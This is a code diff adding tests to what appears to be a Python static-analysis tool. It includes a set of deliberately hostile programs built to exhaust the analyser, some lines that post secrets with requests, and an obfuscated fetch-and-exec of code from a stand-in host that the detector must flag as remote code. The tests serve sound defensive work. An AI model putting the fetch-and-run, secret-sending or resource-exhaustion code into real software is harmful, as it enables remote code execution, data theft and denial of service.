@@ -145,3 +145,36 @@ def test_no_program_breaks_the_reader(parts: list[tuple[str, str, str]]) -> None
     module = read("a.py", text.encode())
     assert msgspec.msgpack.decode(msgspec.msgpack.encode(module), type=Module) == module
     list(join([module]))
+
+
+HOSTILE = {
+    "a chain of classes": "".join(
+        f"class A{n}(A{n - 1}):\n    def m(self): return self.x + self.y\n" for n in range(1, 1500)
+    ),
+    "a web of classes": "".join(
+        f"class B{n}({', '.join(f'B{m}' for m in range(max(0, n - 20), n)) or 'object'}):\n    pass\n"
+        for n in range(300)
+    )
+    + "B299().go(SECRET)\n",
+    "wrapped functions": "def d(f):\n    def w(*a):\n        return f(*a)\n    return w\n"
+    + "".join(f"@d\ndef f{n}(x): return f{n - 1}(x)\n" for n in range(1, 800))
+    + "".join(f"f{n}(API_SECRET)\n" for n in range(1, 800)),
+    "a text that doubles": "x = 'a'\n" + "x += x\n" * 200,
+    "lists in lists": "x = " + "[" * 60 + "n for n in range(2000)" + "] * 2000" * 60 + "\n",
+    "every combination": "x = [[[[a + b for a in range(2000)] for b in range(2000)] for c in range(2000)] for d in range(2000)]\n",
+    "urls of urls": "".join(
+        f"def u{n}(a, b): return requests.post(a + b, json=SECRET), u{n - 1}(a + b, b + a)\n" for n in range(1, 300)
+    ),
+}
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
+def test_a_program_made_to_take_long_does_not(text: str) -> None:
+    module = read("a.py", ("import requests\n" + text).encode())
+    list(join([module, read("b.py", text.encode())]))
+
+
+def test_a_long_file_hides_nothing_behind_another_name() -> None:
+    padding = "".join(f"def p{n}():\n    return {n}\n" for n in range(1000))
+    text = f"import requests\n{padding}p = requests.get\nx = exec\nclass A:\n    def go(self):\n        x(p('https://q.example').text)\n"
+    assert "code/remote-code" in rules(read("a.py", text.encode()))
